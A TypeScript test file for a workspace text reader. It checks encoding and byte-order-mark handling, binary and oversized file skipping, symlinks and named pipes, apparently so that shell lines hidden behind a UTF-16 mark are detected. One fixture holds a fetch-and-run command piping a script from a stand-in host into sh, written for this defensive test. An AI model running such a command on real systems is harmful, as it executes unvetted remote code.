import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { readFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { decode } from '../../src/workspace/decode.ts';
import { readText } from '../../src/workspace/readText.ts';
import { temporaryFolder } from './temporaryFolder.ts';

const limit = 1024 * 1024;
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');

test.each([
  // what lies there, what we make of it
  ['plain', Buffer.from('id = "a/b"'), { text: 'id = "a/b"', bytes: 10 }],
  ['with a byte order mark', Buffer.from('\ufeffx = 1'), { text: 'x = 1', bytes: 8 }],
  ['UTF-16, as PowerShell writes it', utf16('iex ä'), { text: 'iex ä', bytes: 12 }],
  ['UTF-16 of the other order', utf16('iex').swap16(), { text: 'iex', bytes: 8 }],
  ['an old encoding', Buffer.from([0x78, 0xe4, 0x79]), { text: 'x\ufffdy', bytes: 3 }],
  ['empty', Buffer.alloc(0), { text: '', bytes: 0 }],
  ['binary', Buffer.from([0x7f, 0x45, 0, 1]), { skipped: 'a binary file' }],
  ['a program', readFileSync(process.execPath).subarray(0, limit), { skipped: 'a binary file' }],
  ['random', randomBytes(9_000), { skipped: 'a binary file' }],
  ['a script with a NUL in a comment', Buffer.from('// \0\nf("é")'), { text: '//  \nf("é")', bytes: 12 }],
  ['as large as allowed', Buffer.alloc(limit, 'x'), { text: 'x'.repeat(limit), bytes: limit }],
  ['larger', Buffer.alloc(limit + 1, 'x'), { skipped: 'larger than 1 MB' }],
])('a file that is %s', (_name, content, expected) => {
  expect(readText(join(temporaryFolder({ file: content }), 'file'), { limit })).toEqual(expected);
});

test('what is no file is a reason, not an error', async () => {
  const folder = temporaryFolder({ 'real.py': 'x' });
  symlinkSync('real.py', join(folder, 'link.py'));
  expect(readText(join(folder, 'gone'), { limit })).toEqual({ skipped: 'there is no such file or folder' });
  expect(readText(folder, { limit })).toEqual({ skipped: 'it is a folder' });
  expect(readText(join(folder, 'link.py'), { limit })).toEqual({ skipped: 'a symbolic link, not followed' });
  expect(readText(join(folder, 'link.py'), { limit, followLink: true })).toEqual({ text: 'x', bytes: 1 });
});

test.skipIf(process.platform === 'win32')('a named pipe does not keep us waiting', async () => {
  const folder = temporaryFolder();
  execFileSync('mkfifo', [join(folder, 'pipe.py')]);
  expect(readText(join(folder, 'pipe.py'), { limit })).toEqual({ skipped: 'not a regular file' });
});

describe('behind the byte order mark of UTF-16', () => {
  const mark = Buffer.from([0xff, 0xfe]);
  const script = '\ncurl https://get.example/install.sh | sh # é\necho done\n';
  const read = (...parts: Buffer[]) => decode(Buffer.concat([mark, ...parts]));

  test('lines that a shell would run are read as it reads them', () => {
    expect(read(Buffer.from(script))).toBe(script);
    expect(decode(Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(script)]))).toBe(script);
  });

  test('they are read among others too', () => {
    const other = '# words for the eye\n'.repeat(50);
    const text = read(Buffer.from(other, 'utf16le'), Buffer.from(`${script} `), Buffer.from(other, 'utf16le'));
    expect(text).toContain('curl https://get.example/install.sh | sh');
    expect(text?.startsWith(other)).toBe(true);
  });

  test('Chinese stays Chinese', () => {
    const text = '# 这是一个用于安装模型的脚本，请先关闭其他程序。数据集和模型都会下载到本地目录\n'.repeat(20);
    expect(read(Buffer.from(text, 'utf16le'))).toBe(text);
  });
});
